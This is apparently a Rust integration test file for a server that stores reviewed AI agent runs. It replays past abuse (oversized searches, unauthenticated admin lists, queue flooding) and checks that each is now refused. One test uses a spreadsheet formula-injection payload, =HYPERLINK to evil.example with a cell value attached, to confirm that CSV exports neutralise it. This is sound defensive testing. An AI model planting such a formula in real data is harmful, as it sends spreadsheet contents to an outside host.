//! The surfaces added last, attacked as a stranger would, against a real server on loopback:
//! each test names the attack it replays, which once cost minutes of CPU, leaked a secret or
//! ran a formula, and checks that it is now refused or bounded, with a reason.

use crate::common;

use std::time::{Duration, Instant};

use common::{Server, agent, call, demo_store, get, ok, overeager, scratch};
use serde_json::{Value, json};

/// A demo store, a server on it, and a writer, a reviewer and an admin token.
struct Env {
    server: Server,
    db: std::path::PathBuf,
    writer: String,
    reviewer: String,
    admin: String,
}

fn env(name: &str) -> Env {
    let dir = scratch(name);
    let db = demo_store(&dir);
    let token = |name: &str, role: &[&str]| ok(&overeager(&[&["token", "create", name, "--db", db.to_str().unwrap()][..], role].concat())).trim().to_string();
    let (writer, reviewer, admin) = (token("wendy", &[]), token("rita", &["--reviewer"]), token("root", &["--admin"]));
    let server = Server::start(&db, &dir.join("trust.toml"));
    Env { server, db, writer, reviewer, admin }
}

fn search(url: &str, q: &str, extra: &str) -> (u16, Value) {
    get(&format!("{url}/api/search?q={}{extra}", url::form_urlencoded::byte_serialize(q.as_bytes()).collect::<String>()))
}

fn with_token(method: &str, url: &str, token: &str, body: Option<&Value>) -> (u16, Value) {
    let a = agent();
    let auth = format!("Bearer {token}");
    match (method, body) {
        ("GET", _) => call(a.get(url).header("Authorization", &auth).call()),
        ("DELETE", _) => call(a.delete(url).header("Authorization", &auth).call()),
        ("PUT", Some(b)) => call(a.put(url).header("Authorization", &auth).header("Content-Type", "application/json").send(b.to_string().as_bytes())),
        (_, b) => call(a.post(url).header("Authorization", &auth).header("Content-Type", "application/json").send(b.map_or_else(String::new, Value::to_string).as_bytes())),
    }
}

/// `q=e` ×990, `q=path:**/*e*`, a NUL byte, 1,000 terms and `offset=2^63` once ran for
/// minutes or answered 500: each is now a 400 saying why, at once; a search that needs more
/// than its budget is stopped; searches beyond the one running wait briefly, then get 503 with
/// `Retry-After`, never a 500.
#[test]
fn searches_are_bounded_and_malformed_ones_refused() {
    let e = env("surfaces-search");
    let url = &e.server.url;
    let many_e = vec!["e"; 990].join(" ");
    let thousand = (0..1000).map(|i| format!("w{i:03}x")).collect::<Vec<_>>().join(" ");
    for (attack, q, extra, says) in [
        ("990 × e", many_e.as_str(), "", "at most 16 terms"),
        ("a short word alone", "e", "", "three characters"),
        ("a glob with no literal", "path:**/*e*", "", "three characters"),
        ("a NUL byte", "rm\u{0}x", "", "control character"),
        ("1,000 terms", thousand.as_str(), "", "at most 16 terms"),
        ("offset ≥ 2^63", "cmd:\"rm -f\"", "&offset=9223372036854775808", "offset is at most"),
    ] {
        let t = Instant::now();
        let (status, body) = search(url, q, extra);
        assert_eq!(status, 400, "{attack}: {body}");
        assert!(body["error"].as_str().unwrap_or("").contains(says), "{attack}: {body}");
        assert!(t.elapsed() < Duration::from_secs(2), "{attack} answered in {:?}", t.elapsed());
    }
    // A short word beside one the index narrows is fine.
    let (status, body) = search(url, "rm invoicer", "");
    assert_eq!(status, 200, "{body}");
    // 16 searches at once: each is answered (200) or told to come back (503 + Retry-After).
    let answers: Vec<(u16, Option<String>)> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..16)
            .map(|i| {
                s.spawn(move || {
                    let q = url::form_urlencoded::byte_serialize(format!("invoicer{}", if i % 2 == 0 { "" } else { ".db" }).as_bytes()).collect::<String>();
                    let mut r = agent().get(&format!("{url}/api/search?q={q}")).call().unwrap();
                    (r.status().as_u16(), r.headers().get("retry-after").map(|v| v.to_str().unwrap().to_string()).filter(|_| r.body_mut().read_to_string().is_ok()))
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    assert!(answers.iter().all(|(s, retry)| *s == 200 || (*s == 503 && retry.is_some())), "{answers:?}");
    assert!(answers.iter().any(|(s, _)| *s == 200), "{answers:?}");
}

/// `GET /api/keys` and `GET /api/runners` answered anyone, mapping runner keys to accounts;
/// tokens could not be revoked at all.
#[test]
fn operators_lists_need_an_admin_and_a_revoked_token_is_refused_at_once() {
    let e = env("surfaces-tokens");
    let url = &e.server.url;
    for path in ["/api/keys", "/api/runners", "/api/tokens"] {
        assert_eq!(get(&format!("{url}{path}")).0, 401, "{path} anonymously");
        assert_eq!(with_token("GET", &format!("{url}{path}"), &e.writer, None).0, 403, "{path} with a writer token");
        assert_eq!(with_token("GET", &format!("{url}{path}"), &e.admin, None).0, 200, "{path} with an admin token");
    }
    let (_, list) = with_token("GET", &format!("{url}/api/tokens"), &e.admin, None);
    let names: Vec<&str> = list["tokens"].as_array().unwrap().iter().map(|t| t["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["rita", "root", "wendy"], "{list}");
    assert!(!list.to_string().contains(&e.writer), "a token is never listed");
    // The reviewer's token works, is revoked by an admin, and is refused on its next request.
    assert_eq!(with_token("GET", &format!("{url}/api/whoami"), &e.reviewer, None).0, 200);
    assert_eq!(with_token("DELETE", &format!("{url}/api/tokens/rita"), &e.writer, None).0, 403);
    let (status, body) = with_token("DELETE", &format!("{url}/api/tokens/rita"), &e.admin, None);
    assert_eq!((status, body["state"].as_str()), (200, Some("revoked")), "{body}");
    assert_eq!(with_token("GET", &format!("{url}/api/whoami"), &e.reviewer, None).0, 401);
    assert_eq!(with_token("DELETE", &format!("{url}/api/tokens/rita"), &e.admin, None).0, 404);
    // The same from the command line, for the writer.
    let out = ok(&overeager(&["token", "revoke", "wendy", "--db", e.db.to_str().unwrap()]));
    assert!(out.contains("revoked the writer token of `wendy`"), "{out}");
    assert_eq!(with_token("POST", &format!("{url}/api/queues"), &e.writer, Some(&json!({"experiment": "demo", "size": 2, "seed": 1}))).0, 401);
}

/// One reviewer drew 2,000 queues in 5.6 s and `GET /api/queues` answered 1.45 MB unpaged; a
/// comment `=HYPERLINK("http://evil.example/?x="&A1,"x")` came out raw in the labels CSV.
#[test]
fn review_queues_are_capped_and_paged_and_csv_exports_hold_no_formula() {
    let e = env("surfaces-queues");
    let url = &e.server.url;
    for seed in 0..20 {
        let (status, body) = with_token("POST", &format!("{url}/api/queues"), &e.reviewer, Some(&json!({"experiment": "demo", "size": 2, "seed": seed})));
        assert_eq!(status, 201, "{body}");
    }
    let (status, body) = with_token("POST", &format!("{url}/api/queues"), &e.reviewer, Some(&json!({"experiment": "demo", "size": 2, "seed": 99})));
    assert_eq!(status, 422, "{body}");
    assert!(body["error"].as_str().unwrap().contains("the most one rater may"), "{body}");
    // Drawing one drawn before still answers it.
    assert_eq!(with_token("POST", &format!("{url}/api/queues"), &e.reviewer, Some(&json!({"experiment": "demo", "size": 2, "seed": 3}))).0, 200);
    let (status, page) = get(&format!("{url}/api/queues?experiment=demo&limit=5&offset=5"));
    assert_eq!((status, page["queues"].as_array().map(Vec::len), page["total"].as_u64()), (200, Some(5), Some(20)), "{page}");
    assert_eq!(get(&format!("{url}/api/queues?experiment=demo&limit=500")).0, 400);

    // A reviewer's comment that a spreadsheet would run.
    let (_, runs) = get(&format!("{url}/api/runs?experiment=demo&outcome=clean&limit=1"));
    let run = runs["runs"][0]["id"].as_str().unwrap().to_string();
    let comment = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
    // The label shows in the report's agreement at once; the leaderboard is what it was.
    let leaderboard = || {
        agent()
            .get(&format!("{url}/api/leaderboard?experiment=demo"))
            .call()
            .unwrap()
            .body_mut()
            .read_to_vec()
            .unwrap()
    };
    let labelled = || {
        let (_, report) = get(&format!("{url}/api/experiments/demo/report"));
        report["labels"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["n"].as_u64().unwrap())
            .sum::<u64>()
    };
    let (board_before, labelled_before) = (leaderboard(), labelled());
    let (status, body) = with_token(
        "PUT",
        &format!("{url}/api/runs/{run}/label"),
        &e.reviewer,
        Some(&json!({"overeager": false, "traps": {}, "comment": comment})),
    );
    assert_eq!(status, 200, "{body}");
    assert!(
        labelled() > labelled_before,
        "the report counts the new label"
    );
    assert_eq!(leaderboard(), board_before);
    let mut r = agent()
        .get(&format!("{url}/api/labels?experiment=demo&format=csv"))
        .call()
        .unwrap();
    let csv = r.body_mut().read_to_string().unwrap();
    assert!(csv.contains("\"'=HYPERLINK(") && !csv.contains(",=HYPERLINK(") && !csv.contains("\"=HYPERLINK("), "{csv}");
    let exported = ok(&overeager(&["labels", "export", "--experiment", "demo", "--db", e.db.to_str().unwrap()]));
    assert!(exported.contains("\"'=HYPERLINK(") && !exported.contains("\"=HYPERLINK("), "{exported}");
}

/// From a run id to its bundle on the command line: `runs list`, `bundle get`, and `bundle
/// show <run id>` (which once said the path did not exist).
#[test]
fn a_run_id_leads_to_its_bundle_on_the_command_line() {
    let dir = scratch("surfaces-runs");
    let db = demo_store(&dir);
    let dbs = db.to_str().unwrap();
    let listed: Value = serde_json::from_str(&ok(&overeager(&["runs", "list", "--experiment", "demo", "--outcome", "overeager", "--limit", "3", "--db", dbs, "--json"]))).unwrap();
    let runs = listed["runs"].as_array().unwrap();
    assert_eq!(runs.len(), 3, "{listed}");
    assert!(runs.iter().all(|r| r["outcome"] == "overeager"), "{listed}");
    let run = runs[0]["id"].as_str().unwrap();
    let table = ok(&overeager(&["runs", "list", "--experiment", "demo", "--db", dbs]));
    assert!(table.contains(run) && table.contains("bundle get"), "{table}");
    let out = dir.join("got");
    ok(&overeager(&["bundle", "get", run, "--out", out.to_str().unwrap(), "--db", dbs]));
    assert!(out.join("bundle.json").is_file() && out.join("events.jsonl").is_file());
    let shown: Value = serde_json::from_str(&ok(&overeager(&["bundle", "show", run, "--json", "--db", dbs]))).unwrap();
    assert_eq!(shown["manifest"]["run_id"], run, "{}", shown["manifest"]);
    let err = overeager(&["bundle", "show", "no-such-run", "--db", dbs]);
    assert!(!err.status.success() && String::from_utf8_lossy(&err.stderr).contains("no run `no-such-run`"), "{}", String::from_utf8_lossy(&err.stderr));
}
